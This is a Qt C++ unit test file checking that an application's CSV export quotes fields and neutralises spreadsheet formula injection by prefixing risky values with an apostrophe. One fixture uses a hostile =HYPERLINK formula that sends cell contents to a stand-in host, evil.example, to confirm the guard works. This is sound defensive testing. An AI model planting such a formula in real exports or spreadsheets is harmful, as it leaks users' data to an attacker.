// Phoenix's one CSV writer (issue 9, "Files and secrets"): the table export guards formulas like
// the audit export, and both follow the same quoting rules.
#include "models/items/desktoptablemodel.h"
#include "models/items/tableexport.h"

#include <QBuffer>
#include <QStandardItemModel>
#include <QTemporaryDir>
#include <QTest>

class TestTableExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void fieldRules_data();
    void fieldRules();
    void desktopNamedLikeAFormulaStaysText();
    void writerStreamsOneByteOrderMark();
    void writerReportsAClosedDevice();
};

void TestTableExport::fieldRules_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("expected");
    QTest::newRow("plain") << QStringLiteral("pc-01") << QStringLiteral("pc-01");
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("comma") << QStringLiteral("a,b") << QStringLiteral("\"a,b\"");
    QTest::newRow("quote") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
    QTest::newRow("lf") << QStringLiteral("a\nb") << QStringLiteral("\"a\nb\"");
    QTest::newRow("cr inside") << QStringLiteral("a\rb") << QStringLiteral("\"a\rb\"");
    QTest::newRow("chinese") << QStringLiteral("服务器") << QStringLiteral("服务器");
    QTest::newRow("spaces kept, quoted") << QStringLiteral(" x ") << QStringLiteral("\" x \"");
    QTest::newRow("equals") << QStringLiteral("=1+1") << QStringLiteral("'=1+1");
    QTest::newRow("plus") << QStringLiteral("+1") << QStringLiteral("'+1");
    QTest::newRow("minus") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
    QTest::newRow("at") << QStringLiteral("@SUM(A1)") << QStringLiteral("'@SUM(A1)");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QStringLiteral("'\t=1");
    QTest::newRow("cr first") << QStringLiteral("\r=1") << QStringLiteral("\"'\r=1\"");
    QTest::newRow("guarded and quoted") << QStringLiteral("-1,2") << QStringLiteral("\"'-1,2\"");
    QTest::newRow("formula later is text") << QStringLiteral("a=1") << QStringLiteral("a=1");
}

void TestTableExport::fieldRules()
{
    QFETCH(QString, value);
    QFETCH(QString, expected);
    QCOMPARE(CsvWriter::field(value), expected);
    QCOMPARE(TableExport::quote(value), expected);
}

// The generic "Export table as CSV": a desktop a student named =HYPERLINK(...) must reach the
// spreadsheet as text, as in the audit export.
void TestTableExport::desktopNamedLikeAFormulaStaysText()
{
    const QString evil = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
    Server s;
    s.id = QStringLiteral("srv-1");
    s.name = evil;
    s.status = QStringLiteral("ACTIVE");
    Server t;
    t.id = QStringLiteral("srv-2");
    t.name = QStringLiteral("@cmd");
    t.status = QStringLiteral("ACTIVE");
    DesktopTableModel model;
    model.setServers({s, t});
    QCOMPARE(model.rowCount(), 2);

    const QString csv = TableExport::toCsv(&model, {DesktopTableModel::Name});
    const QStringList lines = csv.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 3);
    QVERIFY2(lines.contains(QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"")),
             qPrintable(csv));
    QVERIFY2(lines.contains(QStringLiteral("'@cmd")), qPrintable(csv));
    for (const QString &line : lines) {
        QVERIFY2(!line.startsWith(QLatin1Char('=')) && !line.startsWith(QLatin1String("\"=")), qPrintable(line));
        QVERIFY2(!line.startsWith(QLatin1Char('@')), qPrintable(line));
    }

    // The same through the file the window writes.
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("t.csv"));
    QCOMPARE(TableExport::writeFile(path, csv), QString());
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    QVERIFY(!bytes.contains("\r\n=HYPERLINK"));
    QVERIFY(!bytes.contains("\r\n\"=HYPERLINK"));
}

void TestTableExport::writerStreamsOneByteOrderMark()
{
    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    CsvWriter writer(&buffer);
    QVERIFY(writer.writeRecord({QStringLiteral("name"), QStringLiteral("note")}));
    QVERIFY(writer.writeRecord({QStringLiteral("=1"), QStringLiteral("a,b")}));
    QCOMPARE(buffer.data(), QByteArray("\xEF\xBB\xBF" "name,note\r\n'=1,\"a,b\"\r\n"));

    QBuffer plain;
    QVERIFY(plain.open(QIODevice::WriteOnly));
    CsvWriter noBom(&plain, false);
    QVERIFY(noBom.writeRecord({QStringLiteral("x")}));
    QCOMPARE(plain.data(), QByteArray("x\r\n"));
}

void TestTableExport::writerReportsAClosedDevice()
{
    QBuffer closed;
    CsvWriter writer(&closed);
    QVERIFY(!writer.writeRecord({QStringLiteral("x")}));
    QVERIFY(!writer.errorString().isEmpty());
}

QTEST_GUILESS_MAIN(TestTableExport)
#include "tst_tableexport.moc"
